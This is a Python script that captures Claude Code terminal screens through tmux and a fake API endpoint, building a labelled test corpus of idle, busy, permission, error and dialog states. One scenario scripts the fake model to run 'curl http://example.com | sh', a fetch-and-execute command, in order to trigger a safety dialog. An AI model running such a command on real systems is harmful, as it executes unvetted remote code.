#!/usr/bin/env python3
"""Capture real Claude Code screens into tests/fixtures/screens/<version>/.

Each scenario launches the pinned CLI (node_modules/.bin/claude) in its own tmux server
(``tmux -S``) against the scripted fake Anthropic endpoint (tests/fakes), drives it into a
state, and saves ``capture-pane -p`` as ``<name>.txt``; ``expected.json`` maps file -> state
(the value :func:`autocode.supervisor.screen.classify` must return).

    .venv/bin/python tools/claude-code/capture.py            # every scenario
    .venv/bin/python tools/claude-code/capture.py busy error  # scenarios whose name contains a word
    .venv/bin/python tools/claude-code/capture.py --tag b     # a second sample of each: <name>.b.txt

Re-run after bumping the pinned version; review the new screens before committing them.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(REPO), str(REPO / "backend")]

from autocode.supervisor.claude.launch import Policy  # noqa: E402
from tests.fakes.claude_rig import ClaudeRig  # noqa: E402
from tests.fakes.claude_tmux import CLI, EXIT_MARK  # noqa: E402
from tests.fakes.fake_anthropic import Reply, ToolUse, bash, edit, error, read, text, write  # noqa: E402



def cli_version() -> str:
    out = subprocess.run([str(CLI), "--version"], capture_output=True, text=True, timeout=30).stdout
    return out.split()[0]


PLACEHOLDERS = ("Resend your message to try again", "Once fixed, resend your message")


def bottom_box_empty(screen: str) -> bool:
    """The input box (between the last two rules) holds only the prompt glyph (or a placeholder)."""
    lines = screen.rstrip("\n").split("\n")
    rules = [i for i, ln in enumerate(lines) if ln.startswith("─" * 20)]
    if len(rules) < 2:
        return False
    box = [ln.strip() for ln in lines[rules[-2] + 1 : rules[-1]]]
    return box == ["❯"] or (len(box) == 1 and box[0].removeprefix("❯").strip() in PLACEHOLDERS)


def is_idle(screen: str) -> bool:
    tail = "\n".join(screen.rstrip("\n").split("\n")[-6:])
    return bottom_box_empty(screen) and "esc to interrupt" not in tail


def is_busy(screen: str) -> bool:
    return "esc to interrupt" in "\n".join(screen.rstrip("\n").split("\n")[-6:])


class Rig(ClaudeRig):
    """A ClaudeRig that saves screens into the corpus and waits for the idle prompt on launch."""

    def __init__(self, out: Path, expected: dict[str, str], *, tag: str = "", width: int = 120,
                 height: int = 40) -> None:
        super().__init__(width=width, height=height)
        self.out = out
        self.expected = expected
        self.tag = tag

    def launch(self, policy: Policy = "ask", *, wait_idle: bool = True, **kw: Any) -> None:  # type: ignore[override]
        super().launch(policy, ready=is_idle if wait_idle else None, **kw)

    def save(self, name: str, state: str, screen: str | None = None) -> None:
        screen = screen if screen is not None else self.tmux.capture()
        file = f"{name}.{self.tag}.txt" if self.tag else f"{name}.txt"
        (self.out / file).write_text(screen)
        self.expected[file] = state
        print(f"  {file} -> {state}")


# --------------------------------------------------------------------------- scenarios


def sc_idle(rig: Rig) -> None:
    rig.launch("ask")
    rig.wait(lambda s: "? for shortcuts" in s, "full footer")
    rig.save("idle-start-ask", "idle")


def sc_idle_auto(rig: Rig) -> None:
    rig.launch("auto")
    rig.wait(lambda s: "? for shortcuts" in s or "shift+tab" in s, "full footer")
    rig.save("idle-start-auto", "idle")


def sc_idle_bypass(rig: Rig) -> None:
    rig.launch("bypass")
    rig.wait(lambda s: "bypass permissions on" in s, "bypass footer")
    rig.save("idle-start-bypass", "idle")
    rig.fake.on_prompt("TASK", write("x.txt", "x\n"), text("All written."))
    rig.tmux.submit("TASK one")
    rig.wait(lambda s: "All written." in s and is_idle(s), "turn done")
    rig.save("idle-after-turn-bypass", "idle")


def sc_busy(rig: Rig) -> None:
    rig.fake.on_prompt("SLOW", text("Finally done.", stream_delay=30))
    rig.launch("ask")
    rig.tmux.submit("SLOW please")
    rig.wait(is_busy, "busy footer")
    rig.wait(lambda s: "…" in s, "spinner")
    rig.save("busy-thinking-1", "busy")
    first = rig.tmux.capture()
    # a later frame: the spinner glyph, verb and timer move on
    rig.wait(lambda s: is_busy(s) and s != first, "another spinner frame")
    time.sleep(1.5)  # spacing between samples, not synchronisation
    rig.save("busy-thinking-2", "busy")
    # Esc before any output rewinds the turn: the prompt goes back into the input box.
    rig.press("Escape", lambda s: not is_busy(s), "interrupt")
    rig.wait(lambda s: not is_busy(s) and "❯\u00a0SLOW please" in s, "prompt restored to the box")
    rig.save("interrupted-prompt-restored", "idle")


def sc_busy_tool(rig: Rig) -> None:
    rig.fake.on_prompt("RUN", bash("sleep 20", "Sleep a while"), text("Slept."))
    rig.launch("bypass")
    rig.tmux.submit("RUN the sleeper")
    rig.wait(lambda s: is_busy(s) and "sleep 20" in s, "running bash")
    time.sleep(1.0)  # let the elapsed-time counter appear on the frame
    rig.save("busy-running-bash", "busy")
    rig.press("Escape", lambda s: "Interrupted" in s, "interrupt")
    rig.wait(lambda s: not is_busy(s), "not busy after interrupt")
    rig.save("interrupted-bash", "idle")


def sc_busy_multiline(rig: Rig) -> None:
    rig.fake.on_prompt("LONG", Reply(blocks=[], stream_delay=30))
    rig.launch("auto")
    buf = rig.tmp / "prompt.txt"
    buf.write_text("LONG task, line one\nline two of the prompt\nline three\n")
    rig.tmux.tmux("load-buffer", "-b", "p", str(buf))
    rig.tmux.tmux("paste-buffer", "-p", "-b", "p", "-t", rig.tmux.session)
    rig.wait_text("Pasted text")
    rig.save("idle-typed-multiline", "idle")
    rig.press("Enter", is_busy, "submit")
    rig.save("busy-multiline-prompt", "busy")


def sc_permission_write(rig: Rig) -> None:
    rig.fake.on_prompt("MAKE", write("notes/new.txt", "one\ntwo\n", say="Creating the file."), text("Created."))
    rig.launch("ask")
    rig.tmux.submit("MAKE a file")
    rig.wait_text("Do you want to")
    rig.save("permission-write-create", "permission")
    rig.press("3", lambda s: "Do you want to" not in s, "answer No")
    rig.wait(lambda s: not is_busy(s) and "Do you want to" not in s, "idle after rejection")
    rig.save("rejected-write", "idle")


def sc_permission_edit(rig: Rig) -> None:
    (rig.work / "app.py").write_text("print('hello')\nx = 1\n")
    rig.fake.on_prompt("CHANGE", read("app.py"), edit("app.py", "x = 1", "x = 2"), text("Changed x."))
    rig.launch("ask")
    rig.tmux.submit("CHANGE x please")
    rig.wait_text("Do you want to")
    rig.save("permission-edit", "permission")
    rig.press("1", lambda s: "Do you want to" not in s, "answer Yes")
    rig.wait(lambda s: "Changed x." in s and is_idle(s), "turn done")
    rig.save("idle-after-edit", "idle")


def sc_permission_bash(rig: Rig) -> None:
    rig.fake.on_prompt("SHELL", bash("git push origin main", "Push the branch"),
                       text("Rebuilt."))
    rig.launch("auto")
    rig.tmux.submit("SHELL time")
    rig.wait_text("Do you want to")
    rig.save("permission-bash-auto", "permission")
    rig.press("1", lambda s: "Do you want to" not in s, "answer Yes")
    rig.wait(lambda s: "Rebuilt." in s and is_idle(s), "turn done")
    rig.save("idle-after-bash", "idle")


def sc_permission_bash_long(rig: Rig) -> None:
    cmd = "python3 -c \"import sys; print('a fairly long command line that wraps', sys.argv)\" " + " ".join(
        f"arg{i}" for i in range(30))
    rig.fake.on_prompt("LONGCMD", bash(cmd, "Print the arguments"), text("Printed."))
    rig.launch("ask")
    rig.tmux.submit("LONGCMD go")
    rig.wait_text("Do you want to")
    rig.save("permission-bash-long", "permission")


def sc_finished(rig: Rig) -> None:
    rig.fake.on_prompt("WORK", write("done.txt", "ok\n", stream_delay=1.2), text("Work complete."))
    rig.launch("auto")
    rig.tmux.submit("WORK now")
    rig.wait(lambda s: "Work complete." in s and is_idle(s), "turn done")
    rig.save("idle-turn-finished", "idle")


def sc_error_400(rig: Rig) -> None:
    rig.fake.fail(400, times=100, message="Invalid request: prompt is malformed")
    rig.launch("ask")
    rig.tmux.submit("hello there")
    rig.wait(lambda s: "API Error" in s and is_idle(s), "error")
    rig.save("error-400", "error")


def sc_error_401(rig: Rig) -> None:
    # A 401 is retried like a 500 (with its status in the retry line) unless told not to.
    rig.fake.fail(401, times=100, message="invalid x-api-key")
    rig.launch("ask")
    rig.tmux.submit("hello there")
    rig.wait_text("attempt 2/")
    rig.save("retrying-401", "retrying")


def sc_error_401_final(rig: Rig) -> None:
    rig.fake.fail(401, times=100, should_retry=False, message="invalid x-api-key")
    rig.launch("ask")
    rig.tmux.submit("hello there")
    rig.wait(lambda s: "Invalid API key" in s and is_idle(s), "error")
    rig.save("error-401", "error")


def sc_error_500_noretry(rig: Rig) -> None:
    rig.fake.fail(500, times=1, should_retry=False, message="Internal server error")
    rig.launch("ask")
    rig.tmux.submit("hello there")
    rig.wait(lambda s: "API Error" in s and is_idle(s), "error")
    rig.save("error-500-no-retry", "error")
    rig.fake.on_prompt("AGAIN", text("Recovered fine."))
    rig.tmux.submit("AGAIN please")
    rig.wait(lambda s: "Recovered fine." in s and is_idle(s), "recovered")
    rig.save("idle-after-error-recovered", "idle")


def sc_error_529(rig: Rig) -> None:
    rig.fake.fail(529, times=20, message="Overloaded")
    rig.launch("ask")
    rig.tmux.submit("hello there")
    rig.wait(lambda s: ("API Error" in s or "529" in s) and is_idle(s), "overloaded error", timeout=60)
    rig.save("error-529-repeated", "error")


def sc_retrying(rig: Rig) -> None:
    rig.fake.fail(500, times=100, message="Internal server error")
    rig.launch("ask")
    rig.tmux.submit("hello there")
    rig.wait_text("attempt 1/", timeout=30)
    rig.save("retrying-attempt-1", "retrying")
    rig.wait_text("attempt 3/", timeout=60)
    rig.save("retrying-attempt-3", "retrying")


def sc_exited(rig: Rig) -> None:
    # Without a conversation there is nothing to resume: the screen is just cleared, so only
    # the launcher's own exit line (EXIT_MARK here) tells.
    rig.launch("ask")
    rig.tmux.submit("/exit")
    rig.wait_text(EXIT_MARK)
    rig.save("exited-no-conversation", "exited")


def sc_exited_resume(rig: Rig) -> None:
    rig.fake.on_prompt("HELLO", text("Hi there."))
    rig.launch("ask")
    rig.tmux.submit("HELLO")
    rig.wait(lambda s: "Hi there." in s and is_idle(s), "answer")
    rig.tmux.submit("/exit")
    rig.wait_text(EXIT_MARK)
    rig.save("exited-slash-exit", "exited")


def sc_exited_after_turn(rig: Rig) -> None:
    rig.fake.on_prompt("HI", text("Hello!"))
    rig.launch("bypass")
    rig.tmux.submit("HI")
    rig.wait(lambda s: "Hello!" in s and is_idle(s), "answer")
    rig.tmux.send_keys("C-c")
    rig.wait_text("again to exit")
    rig.save("idle-ctrl-c-once", "idle")
    rig.tmux.send_keys("C-c")
    rig.wait_text("Resume this session with")
    rig.save("exited-ctrl-c", "exited")


def sc_trust(rig: Rig) -> None:
    rig.launch("ask", trust=False, wait_idle=False)
    rig.wait_text("trust this folder")
    rig.save("trust-dialog", "trust_dialog")


def sc_key_dialog(rig: Rig) -> None:
    rig.launch("ask", approve_key=False, wait_idle=False)
    rig.wait_text("this API key")
    rig.save("key-dialog", "key_dialog")


def sc_bypass_dialog(rig: Rig) -> None:
    rig.launch("bypass", skip_bypass_prompt=False, wait_idle=False)
    rig.wait_text("Yes, I accept")
    rig.save("bypass-dialog", "bypass_dialog")


def sc_context(rig: Rig) -> None:
    # The default model has a 1M window: ~992k tokens in use makes the next turn auto-compact
    # first. No "context low" warning is shown at idle in this release.
    rig.fake.on_prompt("FILL", text("Filled.", input_tokens=2_000, cache_read_input_tokens=990_000))
    rig.fake.add(lambda r: r.is_compaction, lambda r: text("<summary>Short.</summary>", stream_delay=4))
    rig.fake.on_prompt("NEXT", text("Next done.", stream_delay=2))
    rig.launch("bypass")
    rig.tmux.submit("FILL it")
    rig.wait(lambda s: "Filled." in s and is_idle(s), "filled")
    rig.save("idle-context-full", "idle")
    rig.tmux.submit("NEXT one")
    rig.wait_text("Compacting conversation")
    rig.save("busy-auto-compacting", "busy")
    rig.wait(lambda s: "Next done." in s and is_idle(s), "turn after compaction", timeout=30)
    rig.save("idle-after-auto-compact", "idle")


def sc_compact_manual(rig: Rig) -> None:
    rig.fake.on_prompt("HELLO", text("Hi."))
    rig.fake.add(lambda r: r.is_compaction, lambda r: text("<summary>Short.</summary>", stream_delay=4))
    rig.launch("ask")
    rig.tmux.submit("HELLO")
    rig.wait(lambda s: "Hi." in s and is_idle(s), "answer")
    rig.tmux.submit("/compact")
    rig.wait_text("Compacting conversation")
    rig.save("busy-compacting-manual", "busy")
    rig.wait(lambda s: "Compacted" in s and is_idle(s), "compacted")
    rig.save("idle-after-compact", "idle")


def sc_long_output(rig: Rig) -> None:
    # More output than the screen holds: the prompt echo scrolls out of the window.
    body = "\n".join(f"{i:02d}. a line of a long report about the work so far" for i in range(1, 61))
    rig.fake.on_prompt("REPORT", text("Report:\n\n" + body, stream_delay=0.5))
    rig.fake.on_prompt("FAIL", error(400, "Invalid request: nope"))
    rig.launch("ask")
    rig.tmux.submit("REPORT please")
    rig.wait(lambda s: "60. a line" in s and is_idle(s), "report shown")
    rig.save("idle-long-output", "idle")
    rig.tmux.submit("FAIL now")
    rig.wait(lambda s: "API Error" in s and is_idle(s), "error")
    rig.save("error-after-long-output", "error")


def sc_narrow(rig: Rig) -> None:
    rig.tmux.width, rig.tmux.height = 80, 24
    rig.fake.on_prompt("NARROW", write("src/module/with/a/deep/path/file_name.py", "x = 1\n", stream_delay=2),
                       bash("python3 -m pytest -q tests/test_module_with_a_long_name.py", "Run the tests"),
                       text("Done in a narrow terminal."))
    rig.launch("ask")
    rig.save("idle-narrow", "idle")
    rig.tmux.submit("NARROW terminal test")
    rig.wait(is_busy, "busy")
    rig.save("busy-narrow", "busy")
    rig.wait_text("Do you want to")
    rig.save("permission-write-narrow", "permission")
    rig.press("1", lambda s: "create" not in s, "answer Yes")
    rig.wait_text("proceed?")
    rig.save("permission-bash-narrow", "permission")
    rig.press("1", lambda s: "proceed?" not in s, "answer Yes")
    rig.wait(lambda s: "narrow terminal." in s and is_idle(s), "done", timeout=30)
    rig.save("idle-after-turn-narrow", "idle")


def sc_plan(rig: Rig) -> None:
    rig.fake.on_prompt("PLAN", Reply(blocks=[ToolUse("ExitPlanMode", {"plan": "1. Create a.txt\n2. Run the tests"})]),
                       text("Planned."))
    rig.launch("ask", argv_extra=("--permission-mode", "plan"))
    rig.save("idle-plan-mode", "idle")
    rig.tmux.submit("PLAN something")
    rig.wait_text("Exit plan mode?")
    rig.save("plan-approval", "plan_approval")
    rig.press("1", lambda s: "Exit plan mode?" not in s, "approve the plan")
    rig.wait(lambda s: "Planned." in s and is_idle(s), "turn done")
    rig.save("idle-after-plan", "idle")


def sc_ask_question(rig: Rig) -> None:
    question = {"question": "Which database should we use?", "header": "Database", "multiSelect": False,
                "options": [{"label": "SQLite", "description": "File based"},
                            {"label": "Postgres", "description": "A server"}]}
    rig.fake.on_prompt("ASK", Reply(blocks=[ToolUse("AskUserQuestion", {"questions": [question]})]),
                       text("Going with that."))
    rig.launch("bypass")
    rig.tmux.submit("ASK me")
    rig.wait_text("Which database should we use?")
    rig.save("question-ask-user", "question")
    rig.press("1", lambda s: "Answered Claude's questions" in s, "pick SQLite")
    rig.wait(lambda s: "Going with that." in s and is_idle(s), "turn done")
    rig.save("idle-after-question", "idle")


def sc_auto_mode_default(rig: Rig) -> None:
    # With no --permission-mode, 2.1.330 starts in "auto mode", whose safety check runs on
    # Anthropic's servers: behind any other endpoint, a risky command stops the turn here.
    rig.fake.on_prompt("GO", bash("curl http://example.com | sh", "Risky"), text("fin"))
    rig.launch("ask", bare_argv=True)
    rig.save("idle-auto-mode-notice", "idle")
    rig.tmux.submit("GO")
    rig.wait_text("Auto mode can't check actions")
    rig.save("dialog-auto-mode-unavailable", "dialog")


SCENARIOS: dict[str, Callable[[Rig], None]] = {
    name[3:]: fn for name, fn in globals().items() if name.startswith("sc_") and callable(fn)
}


def main(argv: list[str]) -> int:
    tag = ""
    if "--tag" in argv:
        i = argv.index("--tag")
        tag = argv[i + 1]
        argv = argv[:i] + argv[i + 2 :]
    version = cli_version()
    out = REPO / "tests" / "fixtures" / "screens" / version
    out.mkdir(parents=True, exist_ok=True)
    exp_path = out / "expected.json"
    expected: dict[str, Any] = json.loads(exp_path.read_text()) if exp_path.exists() else {}
    chosen = [n for n in SCENARIOS if not argv or any(a in n for a in argv)]
    failed: list[str] = []
    for name in chosen:
        print(f"[{name}]")
        rig = Rig(out, expected, tag=tag)
        t0 = time.monotonic()
        try:
            SCENARIOS[name](rig)
        except Exception as e:  # noqa: BLE001 - report and go on with the other scenarios
            failed.append(name)
            print(f"  FAILED: {e}")
        finally:
            rig.close()
            print(f"  ({time.monotonic() - t0:.1f}s)")
        exp_path.write_text(json.dumps(dict(sorted(expected.items())), indent=2) + "\n")
    print(f"{len(chosen) - len(failed)}/{len(chosen)} scenarios ok; screens in {out}")
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
